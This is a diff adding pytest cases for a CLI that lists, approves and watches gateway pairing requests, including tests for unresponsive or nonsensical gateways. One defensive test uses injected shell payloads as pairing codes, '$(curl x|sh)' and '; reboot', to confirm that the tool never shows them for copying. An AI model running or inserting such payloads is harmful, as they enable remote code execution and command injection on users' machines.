@@ -140,7 +140,7 @@ def test_a_gateway_that_is_down_still_says_who_asks_and_answers_nobody(fleet: Co
     assert CODE in fleet("pairing", "list").out
     said = fleet("pairing", "approve", CODE, "--yes")
     assert (said.code, "not done: the gateway does not answer on loopback" in said.err) == (1, True)
-    assert noted(fleet) == []
+    assert noted(fleet) == [("pairing-not-answered", "7007")]
 
 
 def test_a_refusal_is_in_the_gateways_words(fleet: CommandLine) -> None:
@@ -201,3 +201,47 @@ def test_a_watch_on_the_command_line(fleet: CommandLine) -> None:
     )
     [line] = fleet("pairing", "watch", "--timeout", "0", "--json").out.splitlines()
     assert json.loads(line)["request"]["code"] == CODE
+
+
+@pytest.mark.parametrize(
+    ("user", "code"), [(7007, "$(curl x|sh)"), (7007, "; reboot"), (7007, ""), (0, CODE), (-5, CODE)]
+)
+def test_what_no_gateway_writes_is_never_shown_to_be_copied(fleet: CommandLine, user: int, code: str) -> None:
+    host(fleet, "bob").gateway.is_asked(user, code)
+    for arguments in (("list",), ("watch", "--timeout", "0")):
+        said = fleet("pairing", *arguments)
+        assert (code and code != CODE and code in said.out + said.err, CODE in said.out) == (code and False, True)
+        assert "its host does not say who asks" in said.out
+
+
+@pytest.mark.parametrize("answer", [b'{"requests": 5}', b"garbage", b"[]"])
+def test_a_gateway_that_answers_nonsense_has_done_nothing(fleet: CommandLine, answer: bytes) -> None:
+    host(fleet).says["call channels.pairing.list by the CLI"] = answer
+    said = fleet("pairing", "approve", CODE, "--yes")
+    assert (said.code, "the gateway does not say who asks" in said.err) == (1, True)
+
+
+def test_an_answer_that_confirms_nothing_leaves_it_open(fleet: CommandLine) -> None:
+    host(fleet).says["call channels.pairing.approve by the CLI"] = b"garbage"
+    said = fleet("pairing", "approve", CODE, "--yes")
+    assert (said.code, "nobody can tell whether that was done" in said.err) == (1, True)
+    assert noted(fleet) == [("pairing-not-answered", "7007")]
+
+
+def test_a_glob_that_only_finds_servers_is_refused(fleet: CommandLine) -> None:
+    del fleet.world.specs["bob"]
+    said = fleet("pairing", "list", "bo*")
+    assert (said.code, "declares none of them: bob" in said.err) == (64, True)
+
+
+def test_a_watch_finds_the_server_that_took_the_place_of_another(fleet: CommandLine) -> None:
+    client, world = fleet.world.client(), fleet.world
+    news = []
+    with client.lines(kept=True) as lines:
+        for found in client.pairings(lines).watch(("alice",), 5, 600):
+            news.append((found.kind.value, found.request and found.request.code))
+            if len(news) == 1:
+                del world.cloud.by_id[world.server("alice").id]
+                world.apply()
+                host(fleet).gateway.is_asked(7008, OTHER)
+    assert news == [("asks", CODE), ("unheard", None), ("heard", None), ("gone", CODE), ("asks", OTHER)]
